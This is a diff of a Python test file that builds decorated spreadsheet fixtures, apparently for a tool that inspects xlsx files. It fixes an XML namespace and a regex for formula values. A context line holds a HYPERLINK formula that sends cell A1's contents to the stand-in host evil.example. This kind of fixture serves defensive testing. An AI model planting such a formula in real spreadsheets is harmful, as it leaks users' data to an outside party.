@@ -23,7 +23,7 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
 TEXT_BOX = (
     '<twoCellAnchor><from><col>1</col><colOff>0</colOff><row>10</row><rowOff>0</rowOff></from>'
     '<to><col>4</col><colOff>0</colOff><row>14</row><rowOff>0</rowOff></to>'
-    '<sp macro="" textlink=""><nvSpPr><cNvPr id="9" name="TextBox 1"/><cNvSpPr txBox="1"/></nvSpPr>'
+    '<sp macro="" textlink="" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><nvSpPr><cNvPr id="9" name="TextBox 1"/><cNvSpPr txBox="1"/></nvSpPr>'
     '<spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1000000" cy="500000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></spPr>'
     "<txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:t>Read me first</a:t></a:r></a:p></txBody></sp><clientData/></twoCellAnchor>"
 )  # fmt: skip
@@ -120,7 +120,7 @@ def decorated(tmp_path):
         if name.startswith("xl/drawings/drawing"):
             data = data.replace(b"</wsDr>", TEXT_BOX.encode() + b"</wsDr>")
         if name.startswith("xl/worksheets/sheet"):
-            data = data.replace(b"<f>1+1</f><v />", b"<f>1+1</f><v>2</v>")
+            data = re.sub(rb"<f>1\+1</f>(<v\s*/>|<v></v>)?", b"<f>1+1</f><v>2</v>", data)
         return data
 
     return rewrite(path, change)
